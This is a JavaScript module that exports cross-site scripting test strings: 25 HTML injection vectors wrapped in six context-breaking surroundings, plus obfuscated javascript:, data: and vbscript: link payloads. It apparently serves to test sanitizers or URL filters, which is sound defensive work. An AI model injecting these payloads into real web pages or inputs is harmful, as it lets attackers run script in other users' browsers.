// Texts that run a script where a text is taken for markup: 25 ways in 6 surroundings, and links that are scripts.

const VECTORS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<style onload=alert(1)>p{}</style>",
  "<link rel=stylesheet href=data:text/css,p onload=alert(1)>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<marquee onstart=alert(1)>x</marquee>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<select autofocus onfocus=alert(1)></select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<img/src='x'/onerror='alert(1)'>",
  "{{constructor.constructor('alert(1)')()}}${alert(1)}<img src onerror=alert(1)>",
];

const SURROUNDINGS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `' autofocus onfocus=alert(1) x='>${text}`,
  (text) => `</script></style></title></textarea>${text}`,
  (text) => `-->]]>${text}`,
  (text) => text.replace(/<(\w+)/g, (_, name) => `<${name.toUpperCase()}`),
];

export const PAYLOADS = SURROUNDINGS.flatMap((around) => VECTORS.map(around));

export const LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://contoso.example/%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "blob:https://contoso.example/x",
  "view-source:javascript:alert(1)",
  "//attacker.example/",
  "\\\\attacker.example\\",
  "javascript&colon;alert(1)",
];
